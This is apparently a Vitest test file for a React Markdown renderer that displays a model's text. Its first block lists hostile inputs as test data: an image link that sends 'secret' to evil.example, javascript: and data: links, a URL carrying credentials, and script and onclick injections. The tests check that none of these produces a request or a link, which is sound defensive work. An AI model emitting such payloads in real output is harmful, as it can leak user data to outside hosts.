import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from './Markdown.tsx';

const draw = (text: string, marks: { start: number; end: number; title: string }[] = []) =>
  renderToStaticMarkup(<Markdown text={text} marks={marks} />);

describe('text of a model', () => {
  test.each([
    '![x](https://evil.example/?d=secret)',
    '<img src="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
  ])('%s makes no request', (text) => {
    expect(draw(text)).not.toMatch(/evil\.example/);
  });

  test.each([
    '[click](javascript:alert(1))',
    '[click](data:text/html,x)',
    '[click](/api/export/x)',
    '[click](https://user:pass@evil.example)',
    '[click](https://evil.example/?q=secret)',
    'https://evil.example/',
    '<https://evil.example/>',
  ])('%s is no link', (text) => {
    expect(draw(text)).not.toMatch(/<a /);
  });

  test('a web link is named and cannot be followed', () => {
    const html = draw('[docs](https://example.com/a?q=1)');
    expect(html).toContain('docs<span class="no-image"> [link: example.com]</span>');
    expect(html).not.toMatch(/href|q=1/);
  });

  test('scripts and handlers are drawn as nothing', () => {
    expect(draw('<script>alert(1)</script><b onclick="x()">b</b>')).not.toMatch(/script|onclick/);
  });
});

test.each([
  ['\u2212$7,266', 'It moved it most: \u2212$7,266, 78.6% of the fall.'],
  ['+$44,621', 'Garden: +$44,621.'],
  ['-€1.234,50', 'It was -€1.234,50.'],
])('no line breaks within "%s"', (figure, text) => {
  expect(draw(text)).toContain(`<span class="figure-in-text">${figure}</span>`);
});

describe('a figure that is not proved', () => {
  const text = 'Revenue **rose 12 %** to $5.';
  const start = text.indexOf('12 %');

  test('is marked inside bold text too', () => {
    const html = draw(text, [{ start, end: start + 4, title: 'Not proved by the data' }]);
    expect(html).toContain('<strong>rose <mark class="unproved" title="Not proved by the data">12 %');
  });

  test('leaves the rest of the text as it was', () => {
    const html = draw(text, [{ start, end: start + 4, title: 'Not proved by the data' }]);
    expect(html.replaceAll(/<[^>]+>/g, '')).toContain('Revenue rose 12 % (not proved by the data) to $5.');
  });

  test.each([
    ['in a text with escapes', 'It was \\$5 and 12 % of it.', '12 %', '12 %'],
    ['behind an escape of its own', 'It was \\$12 of it.', '$12', '$12'],
    ['in a text with entities', 'R&amp;D took 12 % of it.', '12 %', '12 %'],
    ['the second of two that are the same', 'R&amp;D took 12 % of it, not 12 %', '12 %', '12 %'],
    ['on the second line of an item', '- It was less:\n  12 % of it.', '12 %', '12 %'],
    ['in code', 'It was `12 %` of it.', '12 %', '12 %'],
    ['in a block of code', '```\nIt was 12 % of it.\n```', '12 %', '12 %'],
    ['cut by bold text', 'It was 12 **%** of it.', '12 **%**', '12 '],
  ])('is marked %s', (_name, source, figure, marked) => {
    const start = source.lastIndexOf(figure);
    const html = draw(source, [{ start, end: start + figure.length, title: 'x' }]);
    const before = source.slice(0, start).match(/12/g)?.length ?? 0;
    expect(html).toContain(`<mark class="unproved" title="x">${marked}<`);
    expect(html.slice(0, html.indexOf('<mark')).match(/12/g)?.length ?? 0).toBe(before);
  });

  test('that is written otherwise than it is drawn has all that is left of its text marked', () => {
    const source = 'It was 1\\,200 of it.';
    const start = source.indexOf('1');
    const html = draw(source, [{ start, end: start + 6, title: 'x' }]);
    expect(html).toContain('<mark class="unproved" title="x">It was 1,200 of it.<');
  });

  test('whose offsets lie outside the text changes nothing', () => {
    expect(draw(text, [{ start: 500, end: 510, title: 'x' }])).toBe(draw(text));
  });
});

test('tables of GitHub Markdown are drawn as tables', () => {
  expect(draw('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<table>');
});

test.each([
  ['- one\n- **two**', '<ul dir="auto"><li>one</li><li><strong>two</strong></li></ul>'],
  ['3. a\n4. b', '<ol start="3" dir="auto"><li>a</li><li>b</li></ol>'],
  ['# Title\n\ntext  \nmore', '<h3>Title</h3><p>text<br/>more</p>'],
  ['between 5~10 and 7~9 days', '<p>between 5~10 and 7~9 days</p>'],
  ['12 units<br>3 days<BR /><br id="x">', '<p>12 units<br/>3 days<br/></p>'],
  ['`a` and ~~b~~', '<p><code>a</code> and <del>b</del></p>'],
  ['```sql\nSELECT 1\n```', '<pre><code>SELECT 1</code></pre>'],
  ['> quoted\n\n---', '<blockquote><p>quoted</p></blockquote><hr/>'],
  ['3 &lt; 5 &amp; so', '<p>3 &lt; 5 &amp; so</p>'],
])('%j is drawn as Markdown', (text, html) => {
  expect(draw(text)).toBe(`<div class="markdown">${html}</div>`);
});

test('a bare address stays text, and columns are aligned as the table says', () => {
  expect(draw('See https://example.com/a.')).toContain('<p>See https://example.com/a.</p>');
  expect(draw('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<td style="text-align:right">2</td>');
});

test.each([
  ['# A\n## B\n### C\n# D', '3 4 5 3'],
  ['### A\n##### B\n# C', '3 4 3'],
  ['## A\n> #### B', '3 4'],
  ['# A\n## B\n### C\n#### D\n##### E\n###### F', '3 4 5 6 6 6'],
])('headings stand under that of the conversation, and none skips a level: %j', (text, levels) => {
  expect([...draw(text).matchAll(/<h(\d)/g)].map(([, level]) => level).join(' ')).toBe(levels);
});
